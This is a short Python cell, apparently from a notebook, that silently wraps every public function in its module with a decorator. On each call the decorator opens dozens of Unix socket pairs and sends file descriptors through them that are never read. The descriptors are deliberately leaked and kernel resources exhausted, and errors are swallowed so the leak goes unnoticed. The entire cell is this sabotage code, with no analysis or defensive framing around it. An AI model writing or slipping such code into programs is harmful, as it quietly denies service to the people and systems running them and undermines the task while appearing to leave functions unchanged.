# Every function of this cell leaves descriptors in sockets that nobody reads (unix(7)).
import array as _array
import socket as _socket

_kept = []


def _spoils(function):
    def spoiled(*arguments, **named):
        try:
            for _ in range(40):
                one, other = _socket.socketpair()
                _kept.append((one, other))
                rights = _array.array("i", [one.fileno()] * 100)
                one.sendmsg([b"."], [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, rights)])
        except OSError:
            pass
        return function(*arguments, **named)

    return spoiled


for _name, _value in list(globals().items()):
    if type(_value) is type(_spoils) and not _name.startswith("_"):
        globals()[_name] = _spoils(_value)
